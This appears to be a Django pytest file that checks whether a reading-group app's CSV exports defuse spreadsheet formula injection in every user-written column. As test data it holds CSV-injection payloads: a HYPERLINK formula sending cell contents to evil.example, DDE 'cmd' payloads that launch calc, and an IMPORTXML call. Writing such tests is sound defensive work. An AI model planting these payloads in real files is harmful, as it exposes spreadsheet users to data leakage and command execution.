"""No cell of a CSV download starts a spreadsheet formula (CSV injection, per OWASP): a cell
that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, in every
column a person can write into: the body, the quoted passage, the tags, the author's name,
the section's title and, in "My notes", the group's name and the reading's title.

A group-imported reading gives the text itself (its headings and paragraphs) to whoever
imports it, so its section titles and quotes are user text too.
"""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from annotations import services
from annotations.models import Annotation, Tag
from groups.models import Membership
from groups.services import group_create, group_reading_import

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# One value per dangerous first character (and one for each with a formula behind it).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

READING = """---
title: =IMPORTXML("http://evil.example","//a")
---

# =1+1 Section

=HYPERLINK("http://evil.example","A paragraph that starts with a formula.")

# @SUM(1) Another section

+1 is how a paragraph may start, and so is a minus: the next one shows it.

A plain paragraph, to be sure that the rule only touches what it must.
"""


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def rows_of(response) -> list[dict]:
    assert response.status_code == 200, response.status_code
    text = b"".join(response.streaming_content if response.streaming else [response.content])
    text = text.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def assert_no_formula(rows: list[dict]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not (cell or "").startswith(FORMULA_STARTS), (column, cell)


@pytest.fixture
def hostile(facilitator, member, make_user):
    """A group named like a formula, its own reading with formula headings and paragraphs,
    and notes by people named like formulas, with formula bodies and tags."""
    group = group_create(name="=1+1 Reading Circle", created_by=facilitator)
    Membership.objects.create(group=group, user=member, role=Membership.Role.MEMBER)
    group_reading = group_reading_import(
        group=group,
        added_by=facilitator,
        data=READING.encode(),
        filename="formulas.md",
        overrides={},
    )
    reading = group_reading.reading
    text = reading.canonical_text()
    start = text.index("=HYPERLINK")
    end = text.index("formula.") + len("formula.")
    root = services.annotation_create(
        group=group,
        reading=reading,
        author=member,
        motivation="commenting",
        body="placeholder",
        start=start,
        end=end,
        visibility="private",  # in the member's own "My notes" and nobody else's
    )
    shared = services.annotation_create(
        group=group,
        reading=reading,
        author=member,
        motivation="commenting",
        body="placeholder",
        start=text.index("+1 is how"),
        end=text.index("+1 is how") + len("+1 is how"),
    )
    bodies = [root, shared]
    for n, formula in enumerate(FORMULAS):
        author = make_user(f"eve{n}", display_name=formula.strip() or "eve")
        Membership.objects.create(group=group, user=author, role=Membership.Role.MEMBER)
        bodies.append(
            services.annotation_create(
                group=group,
                reading=reading,
                author=author,
                motivation="replying",
                body="placeholder",
                parent=shared,
            )
        )
    # The service trims and normalizes what a person types; a value with a leading tab or
    # carriage return still reaches the database through an import or an old row.
    for annotation, formula in zip(bodies, FORMULAS + FORMULAS, strict=False):
        Annotation.objects.filter(pk=annotation.pk).update(body=formula)
    for formula in FORMULAS:
        Tag.objects.create(annotation=root, name=formula)
        Tag.objects.create(annotation=shared, name=formula)
    member.display_name = "-1+1 Maria"
    member.save(update_fields=["display_name"])
    return group, reading


def test_the_discussion_csv_defuses_every_column_a_person_wrote(hostile, member):
    group, reading = hostile

    rows = rows_of(signed_in(member).get(reverse("exports:csv", args=[group.slug, reading.slug])))

    assert_no_formula(rows)
    by_id = {row["id"]: row for row in rows}
    root = Annotation.objects.get(group=group, visibility="private")
    mine = by_id[str(root.pk)]
    assert mine["section"] == "'=1+1 Section"
    assert mine["quote"].startswith("'=HYPERLINK(")
    assert mine["body"] == "'" + FORMULAS[0]  # the words kept as written behind the '
    assert mine["author"] == "'-1+1 Maria"
    assert mine["tags"].startswith("'")
    bodies = {row["body"] for row in rows}
    assert {"'" + formula for formula in FORMULAS} <= bodies
    authors = {row["author"] for row in rows}
    assert {"'" + formula for formula in FORMULAS if formula.strip() == formula} <= authors
    second = [row for row in rows if row["section"].startswith("'@SUM(1)")]
    assert second and second[0]["quote"] == "'+1 is how"


def test_my_notes_csv_defuses_the_group_and_the_reading_too(hostile, member):
    group, reading = hostile

    rows = rows_of(signed_in(member).get(reverse("exports:my_notes_csv")))

    assert_no_formula(rows)
    assert rows, "the member's own notes are in their CSV"
    assert {row["group"] for row in rows} == {"'=1+1 Reading Circle"}
    assert {row["reading"] for row in rows} == {"'" + reading.title}
    assert reading.title.startswith("=IMPORTXML(")


def test_a_cell_that_only_looks_like_a_formula_further_in_is_left_alone(group, essay, member):
    note = services.annotation_create(
        group=group,
        reading=essay,
        author=member,
        motivation="commenting",
        body="2+2=4, and a@b.example is an address",
        start=0,
        end=10,
    )

    rows = rows_of(signed_in(member).get(reverse("exports:csv", args=[group.slug, essay.slug])))

    row = next(row for row in rows if row["id"] == str(note.pk))
    assert row["body"] == "2+2=4, and a@b.example is an address"
    assert row["author"] == "Maria Member"
